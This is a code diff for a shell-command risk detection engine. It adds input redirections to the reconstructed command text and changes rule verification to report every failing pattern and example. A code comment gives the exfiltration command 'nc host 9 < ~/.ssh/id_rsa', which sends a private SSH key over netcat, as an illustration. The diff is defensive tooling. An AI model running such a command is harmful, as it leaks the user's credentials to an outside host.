@@ -31,6 +31,9 @@ std::string command_text(const SimpleCommand& cmd) {
     else
       out += a;
   }
+  // Input redirections belong to the command (`nc host 9 < ~/.ssh/id_rsa`).
+  for (const auto& r : cmd.redirects)
+    if (r.op == "<" || r.op == "<<<" || r.op == "<<") out += " " + r.op + " " + r.target;
   return out;
 }
 
@@ -46,18 +49,26 @@ class EngineImpl final : public Engine {
     return assess(read_argv(argv, m_limits, known()));
   }
 
-  // Check every rule's examples; the first failure is returned.
+  // Check every rule's patterns and examples; every failure is listed, one per line.
   Result<void> verify() {
+    std::string errors;
     for (const auto& r : m_rules.rules()) {
-      if (!r->compile()) return make_error(r->where() + ": " + r->broken);
+      if (!r->compile()) {
+        errors += r->where() + ": " + r->broken + "\n";
+        continue;
+      }
       for (const auto& ex : r->match_examples) {
         if (!has_rule(assess_script(ex), r->id))
-          return make_error(r->where() + ": example `" + ex + "` should match but does not");
+          errors += r->where() + ": example `" + ex + "` should match but does not\n";
       }
       for (const auto& ex : r->not_match_examples) {
         if (has_rule(assess_script(ex), r->id))
-          return make_error(r->where() + ": example `" + ex + "` should not match but does");
+          errors += r->where() + ": example `" + ex + "` should not match but does\n";
       }
+    }
+    if (!errors.empty()) {
+      errors.pop_back();
+      return make_error(errors);
     }
     return {};
   }
